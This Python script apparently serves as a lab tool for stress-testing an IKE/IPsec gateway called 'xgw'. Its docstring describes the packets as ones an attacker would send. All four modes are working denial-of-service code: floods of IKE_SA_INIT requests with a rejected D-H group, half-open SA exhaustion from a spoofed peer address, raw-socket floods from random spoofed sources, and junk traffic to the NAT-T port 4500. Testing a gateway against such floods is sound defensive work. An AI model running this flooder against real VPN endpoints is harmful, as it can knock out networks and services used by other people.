#!/usr/bin/env python3
"""IKE packets an attacker would send, for the probe and flood labs.

  ike_flood.py dh1 SRC DST COUNT
      COUNT IKE_SA_INIT requests (RFC 7296 section 1.2) from SRC:5500 with
      D-H group 1 (modp768), which xgw never accepts: dh_group_mismatch.
  ike_flood.py spoof SRC DST RATE SECONDS
      IKE_SA_INIT requests xgw would accept (AES-CBC-128, HMAC-SHA-256,
      PRF-SHA-256, modp2048) from SRC:5500, RATE per second: half-open SAs
      from a configured peer's address, by someone who never sees replies.
  ike_flood.py random DST SECONDS
      IKE_SA_INIT as fast as possible from random sources in 100.64.0.0/10
      (raw IPv4 socket), a new source each time.
  ike_flood.py natt SRC DST SECONDS
      Datagrams to DST:4500 as fast as possible, each a non-ESP marker and
      an IKE header with random SPIs: work for the IKE thread through the
      data plane's port-4500 hand-over.
Each mode prints how many packets it sent. Every request has a fresh SPIi.
"""
import os
import random
import socket
import struct
import sys
import time


def payload(next_type, body):
    return struct.pack("!BBH", next_type, 0, 4 + len(body)) + body


def transform(last, ttype, tid, attrs=b""):
    body = struct.pack("!BxH", ttype, tid) + attrs
    return struct.pack("!BxH", 0 if last else 3, 4 + len(body)) + body


def sa_init(group, ke_len):
    ts = (transform(False, 1, 12, struct.pack("!HH", 0x800E, 128))  # ENCR_AES_CBC 128
          + transform(False, 2, 5)    # PRF_HMAC_SHA2_256
          + transform(False, 3, 12)   # AUTH_HMAC_SHA2_256_128
          + transform(True, 4, group))
    prop = struct.pack("!BxHBBBB", 0, 8 + len(ts), 1, 1, 0, 4) + ts
    # A public value below the group's prime and above 1 (RFC 6989).
    ke_data = b"\x7f" + os.urandom(ke_len - 1)
    body = (payload(34, prop)                                          # SA, next KE
            + payload(40, struct.pack("!HH", group, 0) + ke_data)      # KE, next Nonce
            + payload(0, os.urandom(32)))                              # Nonce
    hdr = bytes(8) + bytes(8) + struct.pack("!BBBBII", 33, 0x20, 34, 0x08, 0, 28 + len(body))
    return bytearray(hdr + body)


def fresh_spi(msg):
    msg[0:8] = os.urandom(8)
    return bytes(msg)


def udp_from(src, port=5500):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((src, port))
    return s


def main():
    mode = sys.argv[1]
    sent = 0
    if mode == "dh1":
        src, dst, count = sys.argv[2], sys.argv[3], int(sys.argv[4])
        s, msg = udp_from(src), sa_init(1, 96)
        for _ in range(count):
            s.sendto(fresh_spi(msg), (dst, 500))
            sent += 1
    elif mode == "spoof":
        src, dst, rate, secs = sys.argv[2], sys.argv[3], float(sys.argv[4]), float(sys.argv[5])
        s, msg = udp_from(src), sa_init(14, 256)
        start = time.monotonic()
        while time.monotonic() - start < secs:
            s.sendto(fresh_spi(msg), (dst, 500))
            sent += 1
            time.sleep(max(0.0, start + sent / rate - time.monotonic()))
    elif mode == "random":
        dst, secs = sys.argv[2], float(sys.argv[3])
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        ike = bytes(sa_init(14, 256))
        udp_len = 8 + len(ike)
        dst_b = socket.inet_aton(dst)
        end = time.monotonic() + secs
        while time.monotonic() < end:
            for _ in range(256):
                src_b = struct.pack("!I", (100 << 24 | 64 << 16) + random.getrandbits(22))
                ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_len, 0, 0, 64, 17, 0,
                                 src_b, dst_b)
                udp = struct.pack("!HHHH", 500, 500, udp_len, 0)  # no UDP checksum (IPv4)
                s.sendto(ip + udp + os.urandom(8) + ike[8:], (dst, 0))
                sent += 1
    elif mode == "natt":
        src, dst, secs = sys.argv[2], sys.argv[3], float(sys.argv[4])
        s = udp_from(src, 5501)
        hdr = struct.pack("!BBBBII", 33, 0x20, 34, 0x08, 0, 28 + 32)
        end = time.monotonic() + secs
        while time.monotonic() < end:
            for _ in range(256):
                s.sendto(bytes(4) + os.urandom(16) + hdr + os.urandom(32), (dst, 4500))
                sent += 1
    else:
        sys.exit("unknown mode " + mode)
    print(sent)


if __name__ == "__main__":
    main()
